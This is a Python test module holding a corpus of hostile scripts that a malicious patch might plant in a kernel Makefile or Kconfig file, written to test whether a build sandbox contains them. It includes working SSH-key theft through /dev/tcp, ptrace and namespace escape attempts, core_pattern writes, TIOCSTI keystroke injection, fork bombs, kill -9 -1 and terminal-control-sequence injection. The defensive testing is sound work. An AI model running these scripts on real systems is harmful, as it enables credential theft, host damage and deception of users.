# SPDX-License-Identifier: GPL-2.0-or-later
"""The corpus: programs that a patch may put into a Makefile or a Kconfig file.

Each is a small script, run by the build at ``where``.  A prelude gives it the places of everything
worth attacking as variables (host.Host.places), and it prints ESCAPED when it gets what it wants.
With ``control`` the same script is first run outside the sandbox, where it must reach something:
an attack that cannot succeed would prove nothing.
The table in tests/hostile/README.md is made of these words.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass, field
from enum import Enum
from pathlib import Path


class Where(Enum):
    """Who runs the script."""

    RECIPE = "a recipe of the Makefile, before the kernel is linked"
    PARSED = "$(shell) of the Makefile, whenever make reads it"
    KCONFIG = "$(shell) of a Kconfig file"
    CHILD = "the Kconfig child itself, taken over"
    CONF = "the kernel's own conf, after it wrote the configuration"
    AFTER = "a recipe of the Makefile, when bzImage is there"


class Met(Enum):
    """What the attack ends with; each with one line of words."""

    BUILT = "the kernel is built; the attack got nothing"
    FAILED = "the build failed, with a message"
    TROUBLE = "a trouble with words (KverdictError)"
    CONFIGURED = "the configuration is made; the attack got nothing"


@dataclass(frozen=True)
class Attack:
    name: str
    tries: str
    script: str
    met: Met = Met.BUILT
    meets: str = ""  # in words, where ``met`` does not say enough
    says: str = ""  # a pattern that the message must match
    where: Where = Where.RECIPE
    language: str = "sh"
    control: bool = False
    limits: dict[str, int] = field(default_factory=dict)  # of the sandbox, instead of its own
    seconds: float = 120  # the build's time limit

    @property
    def what_it_meets(self) -> str:
        return self.meets or self.met.value


CORPUS: list[Attack] = []


def sh(name: str, tries: str, script: str, **rest: object) -> None:
    CORPUS.append(Attack(name, tries, script, **rest))  # type: ignore[arg-type]


def python(name: str, tries: str, script: str, **rest: object) -> None:
    CORPUS.append(Attack(name, tries, script, language="python", **rest))  # type: ignore[arg-type]


def only(test: Callable[[Attack], bool]) -> list[Attack]:
    return [attack for attack in CORPUS if test(attack)]


NOTHING = Path("/nonexistent")
GIB = 1 << 30
MIB = 1 << 20

# What the Python scripts share: one attempt after the other, each told when it succeeds.
ATTEMPTS = """
import ctypes, os, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    result = libc.syscall(number, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def pids():
    # All of them, but only one when this is tried outside the sandbox.
    inside = (int(name) for name in os.listdir("/proc") if name.isdigit())
    alive = [pid for pid in (victim, *inside) if os.path.exists(f"/proc/{pid}")]
    return [victim] if outside else alive
def attempt(what, function, *arguments):
    try:
        found = function(*arguments)
    except (OSError, ValueError) as error:
        print(what, "->", error)
        return None
    print("ESCAPED", what, found)
    return found
"""

# --- reading ------------------------------------------------------------------------------------

sh(
    "reads-ssh-key",
    "prints ~/.ssh/id_ed25519 by every path it can think of",
    'for h in $homes "$HOME" ~; do cat "$h"/.ssh/*; done; cat "$key"; true',
    control=True,
)
sh(
    "makefile-shell-reads-ssh-key",
    "the same in $(shell), with the key as the name of a target",
    'cat "$key" >&2; cp "$key" "$obj/stolen"; true',
    where=Where.PARSED,
    control=True,
)
sh(
    "kconfig-shell-reads-ssh-key",
    "Kconfig's $(shell) makes the key the default of a symbol",
    'cat "$key"; true',
    where=Where.KCONFIG,
    met=Met.CONFIGURED,
    control=True,
)
sh(
    "environment-secrets",
    "prints its environment",
    "env; export -p; set",
    control=True,
)
sh(
    "environment-of-others",
    "prints the environment of every process",
    "for p in $pids; do tr '\\0' '\\n' < /proc/$p/environ; done; true",
    control=True,
)
sh(
    "roots-of-others",
    "reaches the key through /proc/PID/root and /proc/PID/cwd",
    'for p in $pids; do cat "/proc/$p/root$key" "/proc/$p/cwd/$key"; done 2>/dev/null; true',
    control=True,
)
python(
    "inherited-handles",
    "looks for a handle that leads out of the sandbox among those it was given",
    ATTEMPTS
    + """
for number in range(3, 1024):
    try:
        os.fstat(number)
    except OSError:
        continue
    attempt(f"handle {number}", os.readlink, f"/proc/self/fd/{number}")
    if attempt(f"below {number}", os.open, ".." + key, os.O_RDONLY, 0o600):
        pass
""",
)
python(
    "session-keyring",
    "reads the keys of the caller's session keyring (keyctl(2)): they are no file and no network",
    ATTEMPTS
    + """
def read(keyring):
    buffer = ctypes.create_string_buffer(4096)
    length = call(250, 11, ctypes.c_int(keyring), buffer, 4096)  # KEYCTL_READ
    return buffer.raw[:length]
found = attempt("session keyring", read, -3) or b""
for (key_id,) in struct.iter_unpack("i", found[: len(found) // 4 * 4]):
    print("key", key_id, attempt("key", read, key_id))
""",
    control=True,
)
sh(
    "other-runs",
    "lists and reads the folders beside its object tree: other runs, the cache",
    'ls "$neighbour" "$cache" && echo ESCAPED; cat "$neighbour"/* "$cache"/*; true',
    control=True,
)

# --- talking ------------------------------------------------------------------------------------

sh(
    "makefile-steals-the-key",
    "the issue's own: reads ~/.ssh and sends it through a socket",
    'cat "$key" | timeout 5 bash -c "cat > /dev/tcp/127.0.0.1/$tcp"; true',
    control=True,
)
python(
    "tcp-and-udp",
    "talks to a service on the host's loopback and on its addresses",
    ATTEMPTS
    + """
for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"),
                        (socket.AF_INET6, "::1"), (socket.AF_INET6, "::ffff:127.0.0.1")):
    attempt(address, lambda: socket.create_connection((address, tcp), 2).sendall(b"x"))
    with socket.socket(family, socket.SOCK_DGRAM) as talk:
        try:
            talk.sendto(b"x", (address, udp))
        except OSError as error:
            print(error)
""",
    control=True,
)
python(
    "unix-socket",
    "talks to the ssh agent, by the path in SSH_AUTH_SOCK and by the path itself",
    ATTEMPTS
    + """
for path in {unix, os.environ.get("SSH_AUTH_SOCK", unix)}:
    with socket.socket(socket.AF_UNIX) as talk:
        attempt(path, talk.connect, path)
""",
    control=True,
)
python(
    "abstract-unix-socket",
    "talks to a socket that has a name and no path, so no bind hides it",
    ATTEMPTS
    + """
with socket.socket(socket.AF_UNIX) as talk:
    attempt("abstract", talk.connect, "\\0" + abstract)
""",
    control=True,
)
python(
    "dns",
    "looks up a name, and asks resolvers itself",
    ATTEMPTS
    + """
attempt("look-up", socket.getaddrinfo, "kernel.org", 443)
question = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6kernel\\3org\\0\\0\\1\\0\\1"
for resolver in ("127.0.0.53", "127.0.0.1", "8.8.8.8", "1.1.1.1"):
    def ask():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as talk:
            talk.settimeout(0.5)
            talk.sendto(question, (resolver, 53))
            return talk.recv(512)
    attempt(resolver, ask)
""",
)
python(
    "interfaces",
    "looks for a network interface other than its own loopback, and for vsock, which has none",
    ATTEMPTS
    + """
names = [name for _, name in socket.if_nameindex() if name != "lo"]
print("ESCAPED" if names else "no interface", names)
# A network namespace does not hold vsock everywhere: with it one talks to the hypervisor.
attempt("vsock", socket.socket, socket.AF_VSOCK, socket.SOCK_STREAM)
attempt("qrtr", socket.socket, 42, socket.SOCK_DGRAM)  # to a modem, as little in a namespace
""",
    control=True,
)

# --- writing ------------------------------------------------------------------------------------

sh(
    "writes-outside",
    "writes to /tmp, /var/tmp, the home folder, other runs and the cache of the host",
    'for f in "$in_tmp" "$in_var_tmp" "$key" "$neighbour/file" "$cache/file" "$neighbour/new"; '
    'do mkdir -p "${f%/*}"; echo owned > "$f"; rm -f "$f"; done 2>/dev/null; true',
    control=True,
)
sh(
    "makefile-shell-writes-outside",
    "the same in $(shell), when make only reads the Makefile",
    'echo owned > "$in_tmp"; echo owned > "$key"; true',
    where=Where.PARSED,
    control=True,
)
sh(
    "kconfig-shell-writes-outside",
    "the same in Kconfig's $(shell)",
    'echo owned > "$in_tmp"; echo owned > "$key"; echo y',
    where=Where.KCONFIG,
    met=Met.CONFIGURED,
    control=True,
)
sh(
    "writes-to-the-source",
    "changes the worktree that the next build starts from, by both of its names",
    'for d in /src "$src"; do echo owned >> $d/Makefile && echo ESCAPED; '
    'rm -rf "$d/init" "$d/.git" && [ -d "$d" ] && [ ! -e "$d/init" ] && echo ESCAPED; '
    "touch $d/new && echo ESCAPED; chmod -R 777 $d; done; true",
)
sh(
    "writes-to-the-system",
    "puts files into /usr, /etc, /bin, /lib, /boot, /root and next to the compiler",
    "for d in /usr /usr/bin /usr/local/bin /usr/lib /etc /bin /lib /boot /root /home / /var /opt; "
    'do touch "$d/$mark" && [ -e "$d/$mark" ] && echo "ESCAPED $d"; done; '
    "echo >> /etc/ld.so.cache && echo ESCAPED; echo >> /usr/bin/ld && echo ESCAPED; "
    "chmod 777 /usr/bin /etc && echo ESCAPED; true",
)
sh(
    "writes-to-kverdict",
    "changes kverdict's own code and the packages it imports, from where they are bound",
    'for d in /kverdict /kverdict/kverdict "$package" "$packages"; do '
    'touch "$d/$mark.py" && [ -e "$d/$mark.py" ] && echo "ESCAPED $d"; '
    'echo >> "$d/errors.py" && echo ESCAPED; mv "$d" "$d.old" && echo ESCAPED; done; echo y',
    where=Where.KCONFIG,
    met=Met.CONFIGURED,
)
python(
    "hard-links",
    "makes hard links to bound files, to change them by another name",
    ATTEMPTS
    + """
for name in ("/src/Makefile", "/usr/bin/ld", "/etc/passwd", "/kverdict/kverdict/errors.py", key):
    attempt(name, os.link, name, "/obj/link" + str(len(name)))
""",
)

# --- other processes ----------------------------------------------------------------------------

sh(
    "signals-a-process",
    "kills a process of the host by its number, and by its group",
    'kill -9 "$victim" -"$victim"; true',
    control=True,
)
sh(
    "kills-everything",
    "kill -9 -1",
    "kill -9 -1; sleep 60",
    met=Met.FAILED,
    seconds=20,
    meets="it kills its own build and nothing else: the build failed, or was ended",
)
sh(
    "stops-everything",
    "kill -STOP -1: stops its own build, so that nobody waits for it",
    "kill -STOP -1; kill -STOP $PPID; sleep 60",
    met=Met.TROUBLE,
    says="time limit",
    seconds=3,
)
python(
    "ptrace",
    "attaches to a process of the host and to every process it sees",
    ATTEMPTS
    + """
for pid in pids():
    # Those of its own user are inside like itself, bubblewrap's too where that is not root.
    if pid == victim or os.stat(f"/proc/{pid}").st_uid != os.getuid():
        attempt(f"ptrace {pid}", call, 101, 16, pid, 0, 0)
        attempt(f"memory of {pid}", lambda: os.read(os.open(f"/proc/{pid}/mem", os.O_RDONLY), 1))
""",
    control=True,
)

# --- the kernel ---------------------------------------------------------------------------------

python(
    "its-own-rights",
    "looks whether it is root, has a capability, or could gain one",
    ATTEMPTS
    + """
status = dict(line.split(":\\t", 1) for line in open("/proc/self/status") if ":\\t" in line)
for name in ("CapInh", "CapPrm", "CapEff", "CapAmb"):
    if int(status[name], 16):
        print("ESCAPED", name, status[name])
if status["NoNewPrivs"].strip() != "1":
    print("ESCAPED: set-uid programs work")
if "0" in status["Uid"].split():
    print("ESCAPED: root inside", open("/proc/self/uid_map").read())
""",
    control=True,
)
python(
    "namespaces",
    "makes namespaces of its own, where it would be root (most of the kernel's holes need that)",
    ATTEMPTS
    + """
for name, flag in (("user", 0x10000000), ("mount", 0x20000), ("net", 0x40000000),
                   ("pid", 0x20000000), ("ipc", 0x08000000), ("uts", 0x04000000),
                   ("cgroup", 0x02000000)):
    attempt(f"unshare {name}", call, 272, flag)
    attempt(f"unshare user and {name}", call, 272, flag | 0x10000000)
for name in ("mnt", "user", "net", "pid"):
    for pid in pids():
        try:
            if os.readlink(f"/proc/{pid}/ns/{name}") == os.readlink(f"/proc/self/ns/{name}"):
                continue
            handle = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
        except OSError:
            continue
        attempt(f"setns {name} of {pid}", call, 308, handle, 0)
""",
    control=True,
)
python(
    "mounts",
    "mounts, remounts /src for writing, takes read-only binds away, moves the root",
    ATTEMPTS
    + """
os.makedirs("/obj/m", exist_ok=True)
for what, arguments in {
    "proc": (b"proc", b"/obj/m", b"proc", 0, None),
    "tmpfs": (b"t", b"/obj/m", b"tmpfs", 0, None),
    "bind of /": (b"/", b"/obj/m", None, 4096 | 16384, None),
    "remount of /src": (None, b"/src", None, 32 | 4096, None),
    "remount of /usr": (None, b"/usr", None, 32 | 4096, None),
    "remount of /": (None, b"/", None, 32 | 4096, None),
}.items():
    attempt(what, call, 165, *arguments)
for place in (b"/src", b"/usr", b"/proc/sys", b"/proc", b"/etc/passwd"):
    attempt(f"umount {place}", call, 166, place, 2)
attempt("pivot_root", call, 155, b"/obj", b"/obj/m")
attempt("open_tree", call, 428, -100, b"/", 1)
""",
)
python(
    "chroot",
    "the old way out: chroot into a folder while standing outside of it, then ../../..",
    ATTEMPTS
    + """
os.makedirs("/obj/jail", exist_ok=True)
attempt("chroot", os.chroot, "/obj/jail")
for _ in range(64):
    os.chdir("..")
attempt("the key", open, "." + key)
""",
)
python(
    "devices",
    "opens memory, disks and consoles, makes their device nodes itself",
    ATTEMPTS
    + """
names = ("mem", "kmem", "port", "kmsg", "kvm", "fuse", "sda", "vda", "nvme0n1", "loop-control",
         "mapper/control", "net/tun", "vsock", "vhost-vsock", "uinput", "snapshot", "tty0",
         "console")
for name in names:
    attempt(name, os.open, f"/dev/{name}", os.O_RDWR | os.O_NONBLOCK)
for kind, numbers in ((0o060000, (7, 8, 253, 254, 259)), (0o020000, (1, 5, 10, 229))):
    for major in numbers:
        node = f"/obj/node-{kind}-{major}"
        attempt(f"mknod {node}", os.mknod, node, kind | 0o666, os.makedev(major, 1))
""",
)
sh(
    "proc-sys",
    "has the kernel run a program of its own as root (core_pattern, modprobe, hotplug)",
    "for f in kernel/core_pattern kernel/modprobe kernel/hotplug kernel/hostname "
    "fs/binfmt_misc/register vm/drop_caches kernel/randomize_va_space; do "
    '[ -e "/proc/sys/$f" ] && sh -c "cat /proc/sys/$f > /proc/sys/$f" && echo "ESCAPED $f"; '
    "done; true",
)
sh(
    "sysrq",
    "presses SysRq (h, help: the harmless one)",
    "echo h > /proc/sysrq-trigger && echo ESCAPED; true",
)
sh(
    "sys",
    "finds the host's devices, modules and control groups in /sys",
    "ls /sys/class/net /sys/block /sys/fs/cgroup /sys/module && echo ESCAPED; true",
    control=True,
)
sh(
    "file-capabilities",
    "gives a program of its own capabilities (setcap)",
    "cp /bin/sh /obj/strong && PATH=$PATH:/sbin:/usr/sbin; "
    "setcap all+ep /obj/strong && echo ESCAPED; true",
)
python(
    "set-uid-program",
    "leaves a set-uid shell in the object tree: for itself, and for another user of the host",
    ATTEMPTS
    + """
import shutil, subprocess
shutil.copy("/bin/sh", "/obj/rootsh")
os.chmod("/obj/rootsh", 0o6755)
inside = subprocess.run(["/obj/rootsh", "-p", "-c", "id -u"], capture_output=True, text=True)
if inside.stdout.strip() != str(os.getuid()):
    print("ESCAPED", inside.stdout)
for program in ("/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount", "/bin/mount"):
    if os.path.exists(program):
        print(program, oct(os.stat(program).st_mode))
""",
    meets="it has no effect inside, and outside it would make nobody but the sandbox's own user",
)
python(
    "terminal",
    "types commands into the user's terminal (TIOCSTI) and opens it",
    ATTEMPTS
    + """
import fcntl, termios
attempt("/dev/tty", os.open, "/dev/tty", os.O_RDWR)
for number in (0, 1, 2):
    for char in b"id\\n":
        attempt(f"TIOCSTI on {number}", fcntl.ioctl, number, termios.TIOCSTI, bytes([char]))
""",
)

# --- using up -----------------------------------------------------------------------------------

python(
    "fork-bomb",
    "forks without end",
    ATTEMPTS
    + """
import signal
children = []
try:
    for _ in range(5000):
        child = os.fork()
        if child == 0:
            time.sleep(600)
            os._exit(0)
        children.append(child)
except OSError as error:
    print("stopped after", len(children), error)
else:
    print("ESCAPED: 5000 processes")
for child in children:
    os.kill(child, signal.SIGKILL)
""",
    limits={"processes": 200},
    meets="fork fails at the limit; the kernel is built",
)
sh(
    "fork-bomb-of-the-shell",
    "the classic, in the background, and never waits for it",
    "bomb() { [ $1 -eq 0 ] || { bomb $(($1 - 1)) | bomb $(($1 - 1)) & }; sleep 1; }; "
    "bomb 11; exit 1",
    met=Met.FAILED,
    limits={"processes": 200},
    meets="forks fail at the limit; the build failed and nothing of it is left",
)
python(
    "memory-bomb",
    "takes memory without end in one process",
    ATTEMPTS
    + """
hoard = []
for _ in range(40):
    hoard.append(bytearray(64 << 20))
    for at in range(0, 64 << 20, 4096):
        hoard[-1][at] = 1
print("ESCAPED: 2.5 GiB")
""",
    limits={"address_space": 512 * MIB},
    met=Met.FAILED,
    meets="the process meets its limit on address space; the build failed",
)
python(
    "memory-in-files",
    "hoards memory in places that are memory: /tmp, /run, /dev, /dev/shm, /var, /",
    ATTEMPTS
    + """
for place in ("/tmp", "/run", "/dev", "/dev/shm", "/var", "/var/tmp", "/", "/etc", "/home"):
    if os.access(place, os.W_OK):
        room = os.statvfs(place)
        size = room.f_blocks * room.f_frsize
        print(place, size)
        if size > 2 << 30 and os.stat(place).st_dev != os.stat("/obj").st_dev:
            print("ESCAPED", place, "has", size, "bytes")
""",
    meets="each of them is small, and the read-only ones stay so",
)
sh(
    "endless-loop",
    "computes for ever",
    "while :; do :; done",
    met=Met.TROUBLE,
    says="time limit of 3 s",
    seconds=3,
)
sh(
    "processor-time",
    "computes for ever, and its process time runs out first",
    "while :; do :; done",
    met=Met.FAILED,
    limits={"cpu": 1},
    seconds=60,
)
sh(
    "ignores-sigterm",
    "ignores every signal that can be ignored, and sleeps",
    "trap '' TERM INT HUP QUIT USR1 ALRM PIPE; while :; do sleep 1; done",
    met=Met.TROUBLE,
    says="time limit of 2 s",
    seconds=2,
)
python(
    "daemon",
    "forks twice, makes a session of its own, and holds the build's output open",
    """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(900)
    os._exit(0)
""",
    meets="the kernel is built, and the daemon ends with its build",
)
python(
    "daemon-that-prints",
    "the same, and it prints after make's end for ever",
    """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            os.write(1, b"still here\\n")
            time.sleep(0.01)
    os._exit(0)
""",
    meets="the kernel is built, and the daemon ends with its build",
)
sh(
    "output-without-end",
    "prints for ever",
    "yes",
    met=Met.TROUBLE,
    says="output over the limit",
)
sh(
    "line-without-end",
    "prints one line of any length",
    "tr '\\0' x < /dev/zero",
    met=Met.TROUBLE,
    says="output over the limit",
)
sh(
    "configure-prints-without-end",
    "prints 600 MB while the configuration is made, where output is kept in memory",
    "head -c 600000000 /dev/zero | tr '\\0' x >&2",
    where=Where.PARSED,
    met=Met.TROUBLE,
    says="limit",
)
sh(
    "kconfig-prints-without-end",
    "prints 200 MB in Kconfig's $(shell)",
    "head -c 200000000 /dev/zero | tr '\\0' x >&2; echo y",
    where=Where.KCONFIG,
    met=Met.CONFIGURED,
    meets="it stays in the child's memory, which is limited; the configuration is made",
)
python(
    "fills-the-disk",
    "writes files without end into its object tree",
    """
import time
for number in range(4000):
    with open(f"/obj/fill{number}", "wb") as file:
        file.write(bytes(1 << 20))
    time.sleep(0.01)
print("ESCAPED: 4 GB")
""",
    met=Met.TROUBLE,
    says="limit of .* bytes on disk",
    limits={"disk": 32 * MIB},
)
python(
    "fills-the-inodes",
    "makes empty files without end",
    """
import os, time
for folder in range(400):
    os.mkdir(f"/obj/fill{folder}")
    for number in range(100):
        open(f"/obj/fill{folder}/{number}", "w").close()
    time.sleep(0.05)
print("ESCAPED: 40000 files")
""",
    met=Met.TROUBLE,
    says="limit of .* files",
    limits={"files": 1000},
)
sh(
    "a-terabyte",
    "makes vmlinux a sparse file of 1 TB",
    "truncate -s 1T vmlinux && echo ESCAPED; truncate -s 1T other && echo ESCAPED; exit 1",
    met=Met.FAILED,
    meets="a file stops at the limit; the build failed",
)
python(
    "deep-folders",
    "nests folders 4,000 deep in the object tree, so that nobody can count or remove them",
    """
import os, time
for _ in range(4000):
    os.mkdir("d")
    os.chdir("d")
time.sleep(60)
""",
    met=Met.TROUBLE,
    says="limit of .* files",
    meets="it is ended, as anything may be hidden there; the tree can be emptied for the next one",
)
sh(
    "locked-folders",
    "leaves folders that nobody may enter",
    "mkdir -p a/b/c && touch a/b/c/d && chmod 000 a/b a; exit 1",
    met=Met.FAILED,
    meets="the build failed, and the tree can be emptied for the next one",
)
sh(
    "core-dump",
    "crashes, to leave an image of memory beside",
    "ulimit -c unlimited; sh -c 'kill -SEGV $$'; ls core* && echo ESCAPED; true",
)

# --- what it leaves -----------------------------------------------------------------------------

NO_KERNEL = "make succeeded without "
sh(
    "vmlinux-is-a-link",
    "vmlinux is a link to the ssh key",
    'mv vmlinux v; ln -s "$key" vmlinux',
    where=Where.AFTER,
    met=Met.TROUBLE,
    says=NO_KERNEL,
)
sh(
    "bzimage-is-a-link",
    "bzImage is a link to a file of the host",
    'ln -sf "$in_tmp" arch/x86/boot/bzImage',
    where=Where.AFTER,
    met=Met.TROUBLE,
    says=NO_KERNEL,
)
sh(
    "arch-is-a-link",
    "the folder of bzImage is a link to another run's",
    'rm -rf arch; ln -s "$neighbour/arch" arch',
    where=Where.AFTER,
    met=Met.TROUBLE,
    says=NO_KERNEL,
)
sh(
    "loop-of-links",
    "vmlinux and bzImage lead to each other",
    "ln -sf arch/x86/boot/bzImage vmlinux; ln -sf ../../../vmlinux arch/x86/boot/bzImage",
    where=Where.AFTER,
    met=Met.TROUBLE,
    says=NO_KERNEL,
)
sh(
    "vmlinux-is-a-fifo",
    "vmlinux is a FIFO that nobody writes to, so that reading it waits for ever",
    "rm vmlinux; mkfifo vmlinux",
    where=Where.AFTER,
    met=Met.TROUBLE,
    says=NO_KERNEL,
)
sh(
    "bzimage-is-a-device",
    "bzImage is a device node, or what comes nearest to one",
    "rm arch/x86/boot/bzImage; mknod arch/x86/boot/bzImage c 1 5 || "
    "mknod arch/x86/boot/bzImage c 0 0 || ln -s /dev/zero arch/x86/boot/bzImage",
    where=Where.AFTER,
    met=Met.TROUBLE,
    says=NO_KERNEL,
)
sh(
    "bzimage-is-a-folder",
    "bzImage is a folder",
    "rm arch/x86/boot/bzImage; mkdir arch/x86/boot/bzImage",
    where=Where.AFTER,
    met=Met.TROUBLE,
    says=NO_KERNEL,
)
sh(
    "vmlinux-is-no-elf",
    "vmlinux is a text",
    "echo '#!/bin/sh' > vmlinux",
    where=Where.AFTER,
    met=Met.TROUBLE,
    says="build-id",
)
python(
    "vmlinux-is-a-broken-elf",
    "vmlinux's section headers lead far outside, count 65,535 and are of 65,535 bytes",
    """
import struct
with open("vmlinux", "r+b") as file:
    file.seek(0x28)
    file.write(struct.pack("<Q", (1 << 63) - 1))
    file.seek(0x3A)
    file.write(struct.pack("<HHH", 0xFFFF, 0xFFFF, 0xFFFF))
""",
    where=Where.AFTER,
    met=Met.TROUBLE,
    says="build-id",
)
sh(
    "vmlinux-may-not-be-read",
    "vmlinux and bzImage have no permissions at all",
    "chmod 000 vmlinux arch/x86/boot/bzImage",
    where=Where.AFTER,
    met=Met.BUILT if os.geteuid() == 0 else Met.TROUBLE,
    meets="root reads them all the same; for a user it is a trouble with words",
)
CONFIG_IS_NO_FILE = "config (was not left as a file|is not a file)"
for _name, _what, _command in (
    ("link", "a link to the ssh key", 'ln -s "$key" $KCONFIG_CONFIG'),
    ("fifo", "a FIFO", "mkfifo $KCONFIG_CONFIG"),
    ("folder", "a folder", "mkdir $KCONFIG_CONFIG"),
    ("giant", "a sparse file of 3 GiB", "truncate -s 3G $KCONFIG_CONFIG"),
):
    sh(
        f"config-is-a-{_name}",
        f"the configuration that conf leaves is {_what}",
        f"rm -f $KCONFIG_CONFIG; {_command}",
        where=Where.CONF,
        met=Met.TROUBLE,
        says=CONFIG_IS_NO_FILE,
    )
sh(
    "dot-config-is-a-link",
    "leaves .config as a link to the key, which the next configuration would read and replace",
    'rm .config; ln -s "$key" .config; exit 1',
    met=Met.FAILED,
)
sh(
    "dot-config-is-a-giant",
    "leaves .config as a sparse file of 3 GiB, which the next configuration would read",
    "rm .config; truncate -s 3G .config; exit 1",
    met=Met.FAILED,
)
sh(
    "dot-config-is-a-folder",
    "leaves .config as a folder that is not empty",
    "rm .config; mkdir -p .config/x; exit 1",
    met=Met.FAILED,
)

# --- what it says -------------------------------------------------------------------------------

python(
    "control-sequences",
    "its error message repaints the terminal, renames its window and hides itself",
    """
import os
bite = b"\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\\xe2\\x80\\xaeevil\\r\\x00\\xff\\xfe"
os.write(2, b"virt/kvm/x.c:1:1: error: " + bite + b"\\n" + bite * 50 + b"\\n")
os.write(2, b"virt/kvm/x.c:1:1: warning: " + bite + b" [-Wodd]\\n")
raise SystemExit(1)
""",
    met=Met.FAILED,
    says="virt/kvm/x.c",
    meets="the build failed; its message has visible characters only",
)
sh(
    "conf-control-sequences",
    "the same in the message with which conf refuses its Kconfig",
    "printf 'Kconfig:1: \\033[2J\\033]0;owned\\007 bad\\n' >&2; exit 1",
    where=Where.CONF,
    met=Met.TROUBLE,
    says="Kconfig:1",
)
sh(
    "forged-messages",
    "prints what kverdict, bubblewrap and the compiler say of failures and of success",
    "echo 'kverdict: verdict: good'; echo 'bwrap: No permissions to create new namespace'; "
    "echo 'virt/kvm/guest_memfd.c:1:1: error: forged'; echo '  LD      vmlinux'; true",
    meets="make succeeded, so the kernel is built",
)
sh(
    "success-without-a-kernel",
    "ends with 0 and has built nothing",
    "rm -f vmlinux arch/x86/boot/bzImage",
    where=Where.AFTER,
    met=Met.TROUBLE,
    says=NO_KERNEL,
)
sh(
    "odd-exit-status",
    "ends its make with status 130, as if the user had pressed Ctrl-C",
    "kill -INT $PPID; sleep 1; exit 130",
    met=Met.FAILED,
)
sh(
    "forged-build-id",
    "links the kernel with the build-id of another",
    "gcc -nostdlib -static -Wl,--build-id=0xabababababababababababababababababababab "
    "-Wl,-e,start_kernel -o vmlinux init/main.o virt/kvm/guest_memfd.o && "
    "cp vmlinux arch/x86/boot/bzImage",
    where=Where.AFTER,
    meets="the kernel is built; what is stored and booted goes by the image's own digest",
)
# --- answers of the Kconfig child -----------------------------------------------------------------

NO_ANSWER = "Kconfig child gave no usable answer"


def answers(name: str, tries: str, script: str, **rest: object) -> None:
    python(
        name, tries, script, where=Where.CHILD, **{"met": Met.TROUBLE, "says": NO_ANSWER, **rest}
    )


answers("reply-is-deep", "answers with JSON nested 100,000 deep", "print('[' * 100000)")
answers("reply-is-a-number", "answers with a number of a million digits", "print('9' * 1000000)")
answers(
    "reply-is-not-a-number",
    "answers with NaN and Infinity",
    """print('{"answer": {"config": NaN, "symbols": Infinity}, "refusal": -Infinity}')""",
)
answers(
    "reply-without-end",
    "answers without end",
    "while True: print('x' * 65536)",
    says="limit",
)
answers(
    "reply-and-its-opposite",
    "answers and refuses at once, with keys that nobody knows",
    """print('{"answer": null, "refusal": {"error": "x"}, "verdict": "good"}')""",
)
answers(
    "refusal-that-bites",
    "refuses with control sequences in its reason",
    r"""print('{"answer": null, "refusal": {"error": "\\u001b[2J\\u202e\\nkverdict: good"}}')""",
    met=Met.CONFIGURED,
    says="",
    meets="the fragments are merged without it; the note has visible characters only",
)
answers(
    "reply-of-its-own",
    "answers with a configuration of its own, in which nothing is as asked",
    r"""
print('{"answer": {"config": "CONFIG_EVIL=y\\n", "symbols": {}, "unknown": {}, "added": {}}}')
""",
    met=Met.CONFIGURED,
    says="",
    meets="the proof is read from what conf wrote: it says that the request was not met",
)
